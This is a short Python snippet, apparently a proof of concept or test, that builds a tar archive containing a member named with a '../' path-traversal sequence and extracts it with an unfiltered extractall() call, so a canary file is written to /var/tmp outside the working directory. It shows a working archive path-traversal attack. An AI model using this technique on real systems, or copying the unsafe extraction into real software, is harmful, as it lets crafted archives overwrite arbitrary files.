import tarfile, io
b = io.BytesIO()
t = tarfile.open(fileobj=b, mode="w")
i = tarfile.TarInfo("../../../../../var/tmp/CANARY"); i.size = 1
t.addfile(i, io.BytesIO(b"x")); t.close(); b.seek(0)
tarfile.open(fileobj=b).extractall()
